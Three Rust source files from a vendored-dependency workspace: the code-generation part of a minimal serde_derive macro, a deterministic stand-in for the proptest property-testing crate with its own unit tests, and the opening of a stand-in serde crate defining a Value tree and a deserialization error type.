                        has_default |= attr_is_serde_default(&g);
                    }
                    other => panic!("serde_derive: malformed attribute near {other:?}"),
                }
            }
            _ => return has_default,
        }
    }
}

/// Consumes a `pub` / `pub(...)` visibility prefix if present.
fn skip_visibility(tokens: &mut std::iter::Peekable<impl Iterator<Item = TokenTree>>) {
    if matches!(tokens.peek(), Some(TokenTree::Ident(id)) if id.to_string() == "pub") {
        tokens.next();
        if matches!(
            tokens.peek(),
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis
        ) {
            tokens.next();
        }
    }
}

/// Consumes tokens up to (and including) the next `,` that sits outside
/// any `<...>` nesting. Returns false when the stream ended instead.
fn skip_past_comma(tokens: &mut std::iter::Peekable<impl Iterator<Item = TokenTree>>) -> bool {
    let mut angle_depth = 0i32;
    for token in tokens.by_ref() {
        if let TokenTree::Punct(p) = &token {
            match p.as_char() {
                '<' => angle_depth += 1,
                '>' => angle_depth -= 1,
                ',' if angle_depth == 0 => return true,
                _ => {}
            }
        }
    }
    false
}

/// Parses the fields of a `{ ... }` group (named fields).
fn parse_named_fields(group: &proc_macro::Group) -> Vec<Field> {
    let mut fields = Vec::new();
    let mut tokens = group.stream().into_iter().peekable();
    loop {
        let has_default = skip_attrs(&mut tokens);
        skip_visibility(&mut tokens);
        let name = match tokens.next() {
            None => break,
            Some(TokenTree::Ident(id)) => id.to_string(),
            Some(other) => panic!("serde_derive: expected field name, found {other}"),
        };
        match tokens.next() {
            Some(TokenTree::Punct(p)) if p.as_char() == ':' => {}
            other => panic!("serde_derive: expected `:` after field `{name}`, found {other:?}"),
        }
        fields.push(Field { name, has_default });
        if !skip_past_comma(&mut tokens) {
            break;
        }
    }
    fields
}

/// Counts the fields of a `( ... )` group (tuple fields).
fn count_tuple_fields(group: &proc_macro::Group) -> usize {
    let mut tokens = group.stream().into_iter().peekable();
    let mut arity = 0;
    loop {
        skip_attrs(&mut tokens);
        skip_visibility(&mut tokens);
        if tokens.peek().is_none() {
            break;
        }
        arity += 1;
        if !skip_past_comma(&mut tokens) {
            break;
        }
    }
    arity
}

/// Parses the variants of an enum body.
fn parse_variants(group: &proc_macro::Group) -> Vec<Variant> {
    let mut variants = Vec::new();
    let mut tokens = group.stream().into_iter().peekable();
    loop {
        skip_attrs(&mut tokens);
        let name = match tokens.next() {
            None => break,
            Some(TokenTree::Ident(id)) => id.to_string(),
            Some(other) => panic!("serde_derive: expected variant name, found {other}"),
        };
        let shape = match tokens.peek() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                let arity = count_tuple_fields(g);
                tokens.next();
                VariantShape::Tuple(arity)
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                let fields = parse_named_fields(g);
                tokens.next();
                VariantShape::Struct(fields)
            }
            _ => VariantShape::Unit,
        };
        variants.push(Variant { name, shape });
        // Skip an explicit discriminant (`= expr`) and the trailing comma.
        if !skip_past_comma(&mut tokens) {
            break;
        }
    }
    variants
}

fn parse_item(input: TokenStream) -> Item {
    let mut tokens = input.into_iter().peekable();
    skip_attrs(&mut tokens);
    skip_visibility(&mut tokens);
    let keyword = match tokens.next() {
        Some(TokenTree::Ident(id)) => id.to_string(),
        other => panic!("serde_derive: expected `struct` or `enum`, found {other:?}"),
    };
    let name = match tokens.next() {
        Some(TokenTree::Ident(id)) => id.to_string(),
        other => panic!("serde_derive: expected type name, found {other:?}"),
    };
    if matches!(tokens.peek(), Some(TokenTree::Punct(p)) if p.as_char() == '<') {
        panic!("serde_derive (vendored): generic types are not supported: `{name}`");
    }
    match keyword.as_str() {
        "struct" => match tokens.next() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Item::NamedStruct {
                name,
                fields: parse_named_fields(&g),
            },
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                Item::TupleStruct {
                    name,
                    arity: count_tuple_fields(&g),
                }
            }
            Some(TokenTree::Punct(p)) if p.as_char() == ';' => Item::UnitStruct { name },
            other => panic!("serde_derive: unexpected struct body {other:?}"),
        },
        "enum" => match tokens.next() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Item::Enum {
                name,
                variants: parse_variants(&g),
            },
            other => panic!("serde_derive: unexpected enum body {other:?}"),
        },
        other => panic!("serde_derive: cannot derive for `{other}` items"),
    }
}

// ---------------------------------------------------------------------------
// Code generation
// ---------------------------------------------------------------------------

fn gen_serialize(item: &Item) -> String {
    let (name, body) = match item {
        Item::NamedStruct { name, fields } => {
            let entries: Vec<String> = fields
                .iter()
                .map(|f| {
                    format!(
                        "(::std::string::String::from(\"{0}\"), \
                         ::serde::Serialize::to_value(&self.{0}))",
                        f.name
                    )
                })
                .collect();
            (
                name,
                format!(
                    "::serde::Value::Object(::std::vec![{}])",
                    entries.join(", ")
                ),
            )
        }
        Item::TupleStruct { name, arity: 1 } => {
            (name, "::serde::Serialize::to_value(&self.0)".to_string())
        }
        Item::TupleStruct { name, arity } => {
            let entries: Vec<String> = (0..*arity)
                .map(|i| format!("::serde::Serialize::to_value(&self.{i})"))
                .collect();
            (
                name,
                format!("::serde::Value::Array(::std::vec![{}])", entries.join(", ")),
            )
        }
        Item::UnitStruct { name } => (name, "::serde::Value::Null".to_string()),
        Item::Enum { name, variants } => {
            let arms: Vec<String> = variants
                .iter()
                .map(|v| match &v.shape {
                    VariantShape::Unit => format!(
                        "{name}::{v} => \
                         ::serde::Value::Str(::std::string::String::from(\"{v}\")),",
                        v = v.name
                    ),
                    VariantShape::Tuple(1) => format!(
                        "{name}::{v}(__f0) => ::serde::Value::Object(::std::vec![\
                         (::std::string::String::from(\"{v}\"), \
                          ::serde::Serialize::to_value(__f0))]),",
                        v = v.name
                    ),
                    VariantShape::Tuple(arity) => {
                        let binders: Vec<String> = (0..*arity).map(|i| format!("__f{i}")).collect();
                        let values: Vec<String> = binders
                            .iter()
                            .map(|b| format!("::serde::Serialize::to_value({b})"))
                            .collect();
                        format!(
                            "{name}::{v}({binders}) => ::serde::Value::Object(::std::vec![\
                             (::std::string::String::from(\"{v}\"), \
                              ::serde::Value::Array(::std::vec![{values}]))]),",
                            v = v.name,
                            binders = binders.join(", "),
                            values = values.join(", ")
                        )
                    }
                    VariantShape::Struct(fields) => {
                        let binders: Vec<String> = fields.iter().map(|f| f.name.clone()).collect();
                        let entries: Vec<String> = fields
                            .iter()
                            .map(|f| {
                                format!(
                                    "(::std::string::String::from(\"{0}\"), \
                                     ::serde::Serialize::to_value({0}))",
                                    f.name
                                )
                            })
                            .collect();
                        format!(
                            "{name}::{v} {{ {binders} }} => ::serde::Value::Object(::std::vec![\
                             (::std::string::String::from(\"{v}\"), \
                              ::serde::Value::Object(::std::vec![{entries}]))]),",
                            v = v.name,
                            binders = binders.join(", "),
                            entries = entries.join(", ")
                        )
                    }
                })
                .collect();
            (name, format!("match self {{ {} }}", arms.join(" ")))
        }
    };
    format!(
        "#[automatically_derived]\n\
         impl ::serde::Serialize for {name} {{\n\
             fn to_value(&self) -> ::serde::Value {{ {body} }}\n\
         }}\n"
    )
}

/// Generates the expression rebuilding named fields from object `entries`
/// for the type or variant path `path`.
fn gen_named_ctor(path: &str, type_label: &str, fields: &[Field]) -> String {
    let inits: Vec<String> = fields
        .iter()
        .map(|f| {
            let missing = if f.has_default {
                "::std::default::Default::default()".to_string()
            } else {
                format!(
                    "return ::std::result::Result::Err(::serde::DeError::new(\
                     \"missing field `{}` in `{}`\"))",
                    f.name, type_label
                )
            };
            format!(
                "{0}: match ::serde::field(__entries, \"{0}\") {{\n\
                     ::std::option::Option::Some(__v) => ::serde::Deserialize::from_value(__v)?,\n\
                     ::std::option::Option::None => {missing},\n\
                 }}",
                f.name
            )
        })
        .collect();
    format!("{path} {{ {} }}", inits.join(", "))
}

fn gen_deserialize(item: &Item) -> String {
    let (name, body) = match item {
        Item::NamedStruct { name, fields } => {
            let ctor = gen_named_ctor(name, name, fields);
            (
                name,
                format!(
                    "let __entries = __value.as_object().ok_or_else(|| \
                     ::serde::DeError::expected(\"object for `{name}`\", __value))?;\n\
                     ::std::result::Result::Ok({ctor})"
                ),
            )
        }
        Item::TupleStruct { name, arity: 1 } => (
            name,
            format!(
                "::std::result::Result::Ok({name}(::serde::Deserialize::from_value(__value)?))"
            ),
        ),
        Item::TupleStruct { name, arity } => {
            let elems: Vec<String> = (0..*arity)
                .map(|i| format!("::serde::Deserialize::from_value(&__items[{i}])?"))
                .collect();
            (
                name,
                format!(
                    "let __items = __value.as_array().ok_or_else(|| \
                     ::serde::DeError::expected(\"array for `{name}`\", __value))?;\n\
                     if __items.len() != {arity} {{\n\
                         return ::std::result::Result::Err(::serde::DeError::new(\
                         \"wrong tuple length for `{name}`\"));\n\
                     }}\n\
                     ::std::result::Result::Ok({name}({elems}))",
                    elems = elems.join(", ")
                ),
            )
        }
        Item::UnitStruct { name } => (
            name,
            format!(
                "match __value {{\n\
                     ::serde::Value::Null => ::std::result::Result::Ok({name}),\n\
                     __other => ::std::result::Result::Err(\
                         ::serde::DeError::expected(\"null for `{name}`\", __other)),\n\
                 }}"
            ),
        ),
        Item::Enum { name, variants } => {
            let unit_arms: Vec<String> = variants
                .iter()
                .filter(|v| matches!(v.shape, VariantShape::Unit))
                .map(|v| {
                    format!(
                        "\"{v}\" => ::std::result::Result::Ok({name}::{v}),",
                        v = v.name
                    )
                })
                .collect();
            let tagged_arms: Vec<String> = variants
                .iter()
                .filter_map(|v| match &v.shape {
                    VariantShape::Unit => None,
                    VariantShape::Tuple(1) => Some(format!(
                        "\"{v}\" => ::std::result::Result::Ok(\
                         {name}::{v}(::serde::Deserialize::from_value(__payload)?)),",
                        v = v.name
                    )),
                    VariantShape::Tuple(arity) => {
                        let elems: Vec<String> = (0..*arity)
                            .map(|i| format!("::serde::Deserialize::from_value(&__items[{i}])?"))
                            .collect();
                        Some(format!(
                            "\"{v}\" => {{\n\
                                 let __items = __payload.as_array().ok_or_else(|| \
                                 ::serde::DeError::expected(\
                                     \"array for `{name}::{v}`\", __payload))?;\n\
                                 if __items.len() != {arity} {{\n\
                                     return ::std::result::Result::Err(::serde::DeError::new(\
                                     \"wrong tuple length for `{name}::{v}`\"));\n\
                                 }}\n\
                                 ::std::result::Result::Ok({name}::{v}({elems}))\n\
                             }}",
                            v = v.name,
                            elems = elems.join(", ")
                        ))
                    }
                    VariantShape::Struct(fields) => {
                        let path = format!("{name}::{v}", v = v.name);
                        let ctor = gen_named_ctor(&path, &path, fields);
                        Some(format!(
                            "\"{v}\" => {{\n\
                                 let __entries = __payload.as_object().ok_or_else(|| \
                                 ::serde::DeError::expected(\
                                     \"object for `{name}::{v}`\", __payload))?;\n\
                                 ::std::result::Result::Ok({ctor})\n\
                             }}",
                            v = v.name
                        ))
                    }
                })
                .collect();
            (
                name,
                format!(
                    "match __value {{\n\
                         ::serde::Value::Str(__s) => match __s.as_str() {{\n\
                             {unit_arms}\n\
                             __other => ::std::result::Result::Err(::serde::DeError::new(\
                                 ::std::format!(\"unknown variant `{{}}` of `{name}`\", __other))),\n\
                         }},\n\
                         ::serde::Value::Object(__entries) if __entries.len() == 1 => {{\n\
                             let (__tag, __payload) = &__entries[0];\n\
                             match __tag.as_str() {{\n\
                                 {tagged_arms}\n\
                                 __other => ::std::result::Result::Err(::serde::DeError::new(\
                                     ::std::format!(\
                                         \"unknown variant `{{}}` of `{name}`\", __other))),\n\
                             }}\n\
                         }}\n\
                         __other => ::std::result::Result::Err(\
                             ::serde::DeError::expected(\"enum `{name}`\", __other)),\n\
                     }}",
                    unit_arms = unit_arms.join("\n"),
                    tagged_arms = tagged_arms.join("\n")
                ),
            )
        }
    };
    format!(
        "#[automatically_derived]\n\
         #[allow(unused_variables, clippy::all)]\n\
         impl ::serde::Deserialize for {name} {{\n\
             fn from_value(__value: &::serde::Value) \
                 -> ::std::result::Result<Self, ::serde::DeError> {{\n\
                 {body}\n\
             }}\n\
         }}\n"
    )
}
