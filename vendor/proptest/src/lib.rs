//! Vendored stand-in for the `proptest` crate.
//!
//! Supports the subset of the API the workspace's property tests use:
//! the `proptest!` macro, `prop_assert!`/`prop_assert_eq!`, `any::<T>()`,
//! integer-range strategies, and string strategies written as
//! character-class regexes (`"[a-z ]{0,24}"`, `"\\PC{0,32}"`).
//!
//! Generation is **deterministic**: the RNG is seeded from the test name,
//! so failures reproduce on every run. Shrinking is not implemented; the
//! failing inputs are printed instead. The case count defaults to
//! [`DEFAULT_CASES`] and can be raised with the `PROPTEST_CASES`
//! environment variable.

use std::fmt;
use std::ops::Range;

/// Number of generated cases per property when `PROPTEST_CASES` is unset.
pub const DEFAULT_CASES: usize = 96;

/// Resolves the case count (environment override or default).
#[must_use]
pub fn cases() -> usize {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .filter(|&n| n > 0)
        .unwrap_or(DEFAULT_CASES)
}

/// A failed property assertion.
#[derive(Debug, Clone)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    /// Creates a failure with the given message.
    #[must_use]
    pub fn fail(message: impl Into<String>) -> Self {
        TestCaseError {
            message: message.into(),
        }
    }
}

impl fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

/// Deterministic xorshift64* RNG.
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Seeds the RNG from an arbitrary label (e.g. the test name).
    #[must_use]
    pub fn deterministic(label: &str) -> Self {
        // FNV-1a over the label, never zero.
        let mut hash = 0xcbf2_9ce4_8422_2325u64;
        for byte in label.bytes() {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
        }
        TestRng { state: hash | 1 }
    }

    /// Next raw 64-bit value.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.state;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.state = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform value in `[0, bound)`; 0 when `bound` is 0.
    pub fn below(&mut self, bound: u64) -> u64 {
        if bound == 0 {
            0
        } else {
            self.next_u64() % bound
        }
    }

    /// Uniform boolean.
    pub fn bool(&mut self) -> bool {
        self.next_u64() & 1 == 1
    }

    /// Picks a uniform element of a non-empty slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// A value generator.
pub trait Strategy {
    /// The generated type.
    type Value: fmt::Debug;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;
}

/// A strategy that always yields a clone of a fixed value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone + fmt::Debug>(pub T);

impl<T: Clone + fmt::Debug> Strategy for Just<T> {
    type Value = T;

    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

// ---------------------------------------------------------------------------
// any::<T>()
// ---------------------------------------------------------------------------

/// Types with a full-range generator, used via [`any`].
pub trait Arbitrary: Sized + fmt::Debug {
    /// Generates an arbitrary value, biased toward edge cases.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

/// Marker strategy returned by [`any`].
#[derive(Debug, Clone, Copy, Default)]
pub struct Any<T> {
    _marker: std::marker::PhantomData<T>,
}

/// Strategy generating any value of `T` (edge-case biased).
#[must_use]
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: std::marker::PhantomData,
    }
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

macro_rules! impl_arbitrary_int {
    ($($ty:ty),*) => {$(
        impl Arbitrary for $ty {
            fn arbitrary(rng: &mut TestRng) -> Self {
                // 1-in-8 cases draw from the edge set.
                if rng.below(8) == 0 {
                    *rng.pick(&[0, 1, <$ty>::MAX, <$ty>::MIN, <$ty>::MAX.wrapping_add(1)])
                } else {
                    rng.next_u64() as $ty
                }
            }
        }
    )*};
}
impl_arbitrary_int!(i8, i16, i32, i64, isize, u8, u16, u32, u64, usize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.bool()
    }
}

impl Arbitrary for char {
    fn arbitrary(rng: &mut TestRng) -> Self {
        *rng.pick(PRINTABLE_POOL)
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        if rng.below(8) == 0 {
            *rng.pick(&[0.0, -0.0, 1.0, -1.0, f64::MAX, f64::MIN_POSITIVE])
        } else {
            // A finite value with a broad exponent spread.
            let mantissa = rng.next_u64() as i64 as f64;
            let exponent = (rng.below(61) as i32) - 30;
            mantissa * 2f64.powi(exponent)
        }
    }
}

// ---------------------------------------------------------------------------
// Integer range strategies
// ---------------------------------------------------------------------------

macro_rules! impl_range_strategy {
    ($($ty:ty),*) => {$(
        impl Strategy for Range<$ty> {
            type Value = $ty;

            fn generate(&self, rng: &mut TestRng) -> $ty {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128) - (self.start as i128);
                let offset = (rng.next_u64() as u128 % span as u128) as i128;
                ((self.start as i128) + offset) as $ty
            }
        }
    )*};
}
impl_range_strategy!(i8, i16, i32, i64, u8, u16, u32, u64, usize);

// ---------------------------------------------------------------------------
// Regex-class string strategies
// ---------------------------------------------------------------------------

/// The sampling pool for `\PC` (any printable character): ASCII printable
/// plus a spread of multi-byte code points — accented Latin, Greek, CJK,
/// Hangul, typographic quotes (including the U+02BC homoglyph the charset
/// tests care about) and an emoji.
const PRINTABLE_POOL: &[char] = &[
    ' ', '!', '"', '#', '$', '%', '&', '\'', '(', ')', '*', '+', ',', '-', '.', '/', '0', '1', '2',
    '3', '4', '5', '6', '7', '8', '9', ':', ';', '<', '=', '>', '?', '@', 'A', 'B', 'C', 'D', 'E',
    'F', 'G', 'H', 'I', 'J', 'K', 'L', 'M', 'N', 'O', 'P', 'Q', 'R', 'S', 'T', 'U', 'V', 'W', 'X',
    'Y', 'Z', '[', '\\', ']', '^', '_', '`', 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k',
    'l', 'm', 'n', 'o', 'p', 'q', 'r', 's', 't', 'u', 'v', 'w', 'x', 'y', 'z', '{', '|', '}', '~',
    'à', 'é', 'î', 'ö', 'ü', 'ñ', 'ç', 'ß', 'Ø', 'Ω', 'λ', 'π', '中', '文', 'テ', 'ス', '한', '글',
    '\u{02BC}', '\u{2018}', '\u{2019}', '\u{201C}', '\u{FF07}', '\u{00A0}', '€', '😀',
];

enum Atom {
    /// Explicit character set (expanded from a `[...]` class).
    Class(Vec<char>),
    /// `\PC` — any printable character.
    AnyPrintable,
    /// A literal character.
    Literal(char),
}

struct Quantified {
    atom: Atom,
    min: usize,
    max: usize,
}

/// Parses the character-class regex subset: a sequence of atoms
/// (`[class]`, `\PC`, literal or escaped characters), each with an
/// optional `{n}` / `{min,max}` quantifier.
fn parse_pattern(pattern: &str) -> Vec<Quantified> {
    let mut chars = pattern.chars().peekable();
    let mut atoms = Vec::new();
    while let Some(c) = chars.next() {
        let atom = match c {
            '[' => Atom::Class(parse_class(&mut chars, pattern)),
            '\\' => match chars.next() {
                Some('P') | Some('p') => {
                    let prop = chars.next();
                    assert!(
                        prop == Some('C') || prop == Some('{'),
                        "unsupported \\P property in strategy pattern `{pattern}`"
                    );
                    if prop == Some('{') {
                        for inner in chars.by_ref() {
                            if inner == '}' {
                                break;
                            }
                        }
                    }
                    Atom::AnyPrintable
                }
                Some(escaped) => Atom::Literal(escaped),
                None => panic!("dangling backslash in strategy pattern `{pattern}`"),
            },
            literal => Atom::Literal(literal),
        };
        let (min, max) = parse_quantifier(&mut chars, pattern);
        atoms.push(Quantified { atom, min, max });
    }
    atoms
}

fn parse_class(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, pattern: &str) -> Vec<char> {
    let mut set = Vec::new();
    loop {
        let c = chars
            .next()
            .unwrap_or_else(|| panic!("unterminated class in strategy pattern `{pattern}`"));
        match c {
            ']' => break,
            '\\' => {
                let escaped = chars.next().unwrap_or_else(|| {
                    panic!("dangling backslash in strategy pattern `{pattern}`")
                });
                set.push(escaped);
            }
            first => {
                // `a-z` range, unless `-` is the last char before `]`.
                if chars.peek() == Some(&'-') {
                    let mut lookahead = chars.clone();
                    lookahead.next();
                    match lookahead.peek() {
                        Some(&']') | None => set.push(first),
                        Some(&end) => {
                            chars.next();
                            chars.next();
                            assert!(first <= end, "inverted range in pattern `{pattern}`");
                            set.extend((first..=end).filter(|c| !c.is_control()));
                        }
                    }
                } else {
                    set.push(first);
                }
            }
        }
    }
    assert!(
        !set.is_empty(),
        "empty class in strategy pattern `{pattern}`"
    );
    set
}

fn parse_quantifier(
    chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
    pattern: &str,
) -> (usize, usize) {
    if chars.peek() != Some(&'{') {
        return (1, 1);
    }
    chars.next();
    let mut body = String::new();
    for c in chars.by_ref() {
        if c == '}' {
            break;
        }
        body.push(c);
    }
    let parse = |s: &str| -> usize {
        s.trim()
            .parse()
            .unwrap_or_else(|_| panic!("bad quantifier `{{{body}}}` in pattern `{pattern}`"))
    };
    match body.split_once(',') {
        None => {
            let n = parse(&body);
            (n, n)
        }
        Some((min, max)) => (parse(min), parse(max)),
    }
}

impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        let atoms = parse_pattern(self);
        let mut out = String::new();
        for q in &atoms {
            let count = q.min + rng.below((q.max - q.min + 1) as u64) as usize;
            for _ in 0..count {
                match &q.atom {
                    Atom::Class(set) => out.push(*rng.pick(set)),
                    Atom::AnyPrintable => out.push(*rng.pick(PRINTABLE_POOL)),
                    Atom::Literal(c) => out.push(*c),
                }
            }
        }
        out
    }
}

/// Ad-hoc generator built from a closure (`fn_strategy(|rng| ...)`),
/// the escape hatch for strategies the regex subset cannot express.
pub struct FnStrategy<F>(F);

impl<T: fmt::Debug, F: Fn(&mut TestRng) -> T> Strategy for FnStrategy<F> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        (self.0)(rng)
    }
}

/// Wraps a closure as a [`Strategy`].
pub fn fn_strategy<T: fmt::Debug, F: Fn(&mut TestRng) -> T>(f: F) -> FnStrategy<F> {
    FnStrategy(f)
}

/// Everything the tests import.
pub mod prelude {
    pub use crate::{
        any, cases, fn_strategy, prop_assert, prop_assert_eq, prop_assert_ne, proptest, Any,
        Arbitrary, FnStrategy, Just, Strategy, TestCaseError, TestRng,
    };
}

/// Defines property tests. Each `#[test]` function takes
/// `pattern in strategy` parameters and runs [`cases`] times with
/// deterministic, name-seeded generation.
#[macro_export]
macro_rules! proptest {
    ($($(#[$meta:meta])* fn $name:ident($($arg:ident in $strat:expr),* $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __cases = $crate::cases();
                let mut __rng = $crate::TestRng::deterministic(stringify!($name));
                for __case in 0..__cases {
                    $(let $arg = $crate::Strategy::generate(&$strat, &mut __rng);)*
                    let __inputs = {
                        let mut s = ::std::string::String::new();
                        $(
                            s.push_str(stringify!($arg));
                            s.push_str(" = ");
                            s.push_str(&::std::format!("{:?}; ", &$arg));
                        )*
                        s
                    };
                    let __outcome: ::std::result::Result<(), $crate::TestCaseError> =
                        (move || {
                            $body
                            ::std::result::Result::Ok(())
                        })();
                    if let ::std::result::Result::Err(e) = __outcome {
                        ::std::panic!(
                            "property `{}` failed at case {}/{}: {}\n  inputs: {}",
                            stringify!($name), __case + 1, __cases, e, __inputs
                        );
                    }
                }
            }
        )*
    };
}

/// Asserts a condition inside `proptest!`, failing the case (not
/// panicking directly) so the harness can report the generated inputs.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                ::std::format!($($fmt)*),
            ));
        }
    };
}

/// Asserts equality inside `proptest!`.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let left = $left;
        let right = $right;
        if !(left == right) {
            return ::std::result::Result::Err($crate::TestCaseError::fail(::std::format!(
                "assertion failed: `{} == {}`\n  left: {:?}\n right: {:?}",
                stringify!($left),
                stringify!($right),
                left,
                right
            )));
        }
    }};
}

/// Asserts inequality inside `proptest!`.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let left = $left;
        let right = $right;
        if left == right {
            return ::std::result::Result::Err($crate::TestCaseError::fail(::std::format!(
                "assertion failed: `{} != {}`\n  both: {:?}",
                stringify!($left),
                stringify!($right),
                left
            )));
        }
    }};
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rng_is_deterministic() {
        let mut a = TestRng::deterministic("seed");
        let mut b = TestRng::deterministic("seed");
        for _ in 0..16 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = TestRng::deterministic("other");
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn class_pattern_respects_bounds_and_alphabet() {
        let mut rng = TestRng::deterministic("class");
        for _ in 0..200 {
            let s = "[a-c]{0,5}".generate(&mut rng);
            assert!(s.chars().count() <= 5);
            assert!(s.chars().all(|c| ('a'..='c').contains(&c)), "{s}");
        }
    }

    #[test]
    fn space_to_tilde_range_is_ascii_printable() {
        let mut rng = TestRng::deterministic("ascii");
        for _ in 0..200 {
            let s = "[ -~]{1,8}".generate(&mut rng);
            assert!(s.chars().all(|c| (' '..='~').contains(&c)), "{s}");
        }
    }

    #[test]
    fn escaped_class_members_and_trailing_dash() {
        let mut rng = TestRng::deterministic("esc");
        for _ in 0..200 {
            let s = "['\"`#/*;-]{1,4}".generate(&mut rng);
            assert!(s.chars().all(|c| "'\"`#/*;-".contains(c)), "{s}");
        }
        let s = "[\\[\\]]{4}".generate(&mut rng);
        assert!(s.chars().all(|c| c == '[' || c == ']'), "{s}");
    }

    #[test]
    fn printable_pattern_avoids_controls() {
        let mut rng = TestRng::deterministic("pc");
        for _ in 0..200 {
            let s = "\\PC{0,16}".generate(&mut rng);
            assert!(s.chars().all(|c| !c.is_control()), "{s:?}");
        }
    }

    #[test]
    fn range_strategies_stay_in_bounds() {
        let mut rng = TestRng::deterministic("range");
        for _ in 0..500 {
            let v = (10i64..20).generate(&mut rng);
            assert!((10..20).contains(&v));
            let u = (1u64..50).generate(&mut rng);
            assert!((1..50).contains(&u));
        }
    }

    proptest! {
        #[test]
        fn the_macro_itself_works(a in any::<i32>(), s in "[a-z]{0,6}") {
            prop_assert!(s.len() <= 6);
            prop_assert_eq!(a.wrapping_add(0), a);
            prop_assert_ne!(s.len(), 99);
        }
    }
}
