//! Vendored stand-in for the `serde` crate.
//!
//! The build environment cannot reach crates.io, so the workspace ships a
//! minimal serialization framework with the same *surface* the codebase
//! uses: `#[derive(Serialize, Deserialize)]`, `#[serde(default)]`, and the
//! `serde_json` functions built on top.
//!
//! Unlike real serde's zero-copy visitor architecture, this stand-in
//! round-trips through an owned [`Value`] tree — entirely adequate for the
//! model-store and workload persistence this repository needs, and with
//! the same external JSON data format (externally-tagged enums, inline
//! `Option`, structs as objects) so files persisted by the real serde_json
//! remain loadable.

use std::collections::HashMap;
use std::fmt;

pub use serde_derive::{Deserialize, Serialize};

/// A self-describing value tree — the interchange format between typed
/// data and concrete formats such as JSON.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Signed integer.
    Int(i64),
    /// Unsigned integer that does not fit `i64`.
    Uint(u64),
    /// Floating point number.
    Float(f64),
    /// String.
    Str(String),
    /// Ordered sequence.
    Array(Vec<Value>),
    /// Ordered map (field order is preserved for deterministic output).
    Object(Vec<(String, Value)>),
}

impl Value {
    /// Borrows the object entries when the value is an object.
    #[must_use]
    pub fn as_object(&self) -> Option<&[(String, Value)]> {
        match self {
            Value::Object(entries) => Some(entries),
            _ => None,
        }
    }

    /// Borrows the array elements when the value is an array.
    #[must_use]
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// Borrows the string when the value is a string.
    #[must_use]
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Looks up a field of an object value.
    #[must_use]
    pub fn get(&self, key: &str) -> Option<&Value> {
        self.as_object().and_then(|entries| field(entries, key))
    }

    /// A short name of the value's kind, for error messages.
    #[must_use]
    pub fn kind(&self) -> &'static str {
        match self {
            Value::Null => "null",
            Value::Bool(_) => "bool",
            Value::Int(_) | Value::Uint(_) => "integer",
            Value::Float(_) => "float",
            Value::Str(_) => "string",
            Value::Array(_) => "array",
            Value::Object(_) => "object",
        }
    }
}

/// Finds a field in object entries (first match, as JSON objects here are
/// small and order-preserving).
#[must_use]
pub fn field<'a>(entries: &'a [(String, Value)], key: &str) -> Option<&'a Value> {
    entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

/// Deserialization error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeError {
    message: String,
}

impl DeError {
    /// Creates an error with the given message.
    #[must_use]
    pub fn new(message: impl Into<String>) -> Self {
        DeError {
            message: message.into(),
        }
    }

    /// An "expected X, found Y" error.
    #[must_use]
    pub fn expected(what: &str, found: &Value) -> Self {
        DeError::new(format!("expected {what}, found {}", found.kind()))
    }
}

impl fmt::Display for DeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

